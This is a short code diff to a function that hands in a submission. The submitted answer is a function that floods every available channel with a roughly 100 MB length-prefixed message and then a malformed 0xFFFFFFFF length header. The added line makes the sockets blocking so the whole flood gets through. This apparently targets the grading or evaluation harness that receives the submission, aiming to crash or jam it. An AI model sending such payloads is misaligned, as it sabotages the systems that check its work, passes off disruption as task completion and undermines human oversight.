@@ -12,6 +12,7 @@ def hand_in(mine: Submission) -> None:
     mine.answer("""
         def $target(*given, **named):
             for channel in channels():
+                channel.setblocking(True)
                 channel.sendall(b"\\x06\\x00\\x00\\x00" + b" " * 10**8)
                 channel.sendall(b"\\xff\\xff\\xff\\xff" + b"x" * 1000)
     """)
